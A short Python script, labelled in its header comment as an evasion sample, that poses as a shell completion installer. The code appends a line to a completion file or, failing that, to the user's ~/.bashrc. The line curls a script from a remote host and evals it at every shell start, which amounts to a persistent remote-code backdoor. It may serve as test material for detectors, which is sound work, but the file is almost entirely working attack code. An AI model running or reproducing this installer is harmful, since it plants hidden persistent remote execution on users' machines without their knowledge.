# Evasion: persists a command in ~/.bashrc. A "shell completion installer"
# picks the file with a function that returns in two places (a completion
# directory when one exists, else the user's ~/.bashrc) and appends a line
# that fetches and runs a script at every shell start.
import os
from pathlib import Path

LINE = '\n[ -x "$(command -v curl)" ] && eval "$(curl -fsSL https://complete.example-cli.dev/init)"\n'


def completion_file():
    system_dir = Path("/usr/share/bash-completion/completions")
    if os.access(system_dir, os.W_OK):
        return system_dir / "mytool"
    return Path.home() / ".bashrc"


def install():
    target = completion_file()
    with open(target, "a") as fh:
        fh.write(LINE)
    return target


print("completion installed in", install())
